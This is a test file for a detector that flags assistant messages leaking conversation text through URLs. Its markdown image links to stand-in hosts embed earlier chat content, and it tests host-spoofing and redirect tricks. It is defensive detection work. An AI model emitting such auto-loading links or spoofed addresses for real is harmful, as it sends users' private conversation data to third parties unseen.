import { describe, expect, it } from 'vitest';
import { createGuard } from '../../guard.ts';
import { exfiltration } from './detector.ts';
import { isPublic, withoutSearch, withoutTitles } from './readable.ts';

describe('what an address says to nobody who could have asked for it', () => {
  it.each([
    'https://www.google.com/search?q=the+boat+leaves+at+nine',
    'https://x.com/intent/post?text=The%20boat%20leaves%20at%20nine',
    'https://wa.me/?text=The%20boat%20leaves%20at%20nine',
    'https://harbour.example/notice#:~:text=The%20boat%20leaves%20at%20nine',
    'https://www.deepl.com/en/translator#en/de/The%20boat%20leaves%20at%20nine',
  ])('%s', (address) => expect(withoutSearch(address)).not.toMatch(/boat/));

  it.each([
    'https://wa.me/491511234567?text=The%20boat%20leaves%20at%20nine',
    'https://google.com.harbour.example/search?q=the+boat+leaves',
    'https://google.com@harbour.example/search?q=the+boat+leaves',
    'https://www.google.com/url?q=https://harbour.example/?d=the+boat',
    'https://harbour.example/i?q=the+boat',
  ])('but not %s', (address) => expect(withoutSearch(address)).toMatch(/boat/));

  it('is a title that names nothing private, in an address that somebody opens', () => {
    expect(withoutTitles('https://harbour.example/news/the-boat-leaves-at-nine', false)).not.toMatch(/boat/);
    expect(withoutTitles('https://harbour.example/news/the-boat-leaves-at-nine-today.png', true)).toMatch(/boat/);
    expect(withoutTitles('https://harbour.example/news/her-diagnosis-came-on-monday', false)).toMatch(/diagnosis/);
    expect(withoutTitles('https://harbour.example/Ann-Roe-leaves-at-nine', false)).toMatch(/Ann/);
  });

  it('is what everybody may read, where it leads nowhere else', () => {
    expect(isPublic('https://en.wikipedia.org/wiki/Boats_of_the_old_harbour')).toBe(true);
    expect(isPublic('https://www.youtube.com/redirect?q=https%3A%2F%2Fharbour.example')).toBe(false);
    expect(isPublic('https://wikipedia.org.harbour.example/a')).toBe(false);
  });
});

describe('an address in a conversation', () => {
  const said = { earlier: ['Notice: the ferry to the island leaves from pier seven at noon.'], canaries: [] };
  const guard = createGuard({ detectors: [exfiltration], clock: () => 0 });
  const types = (text: string) =>
    guard.check(text, { origin: 'assistant' }, { conversation: said }).findings.map(({ type }) => type);

  it('may search for it and have it as its title', () => {
    expect(types('[a](https://www.bing.com/search?q=ferry+to+the+island+leaves+from+pier+seven)')).toEqual([]);
    expect(types('[b](https://port.example/news/the-ferry-to-the-island-leaves-from-pier-seven)')).toEqual([]);
  });

  it('may not have it loaded by itself', () => {
    expect(types('![](https://port.example/the-ferry-to-the-island-leaves-from-pier-seven.png)')).not.toEqual([]);
    expect(types('![](https://port.example/search?q=ferry+to+the+island+leaves)')).not.toEqual([]);
  });
});
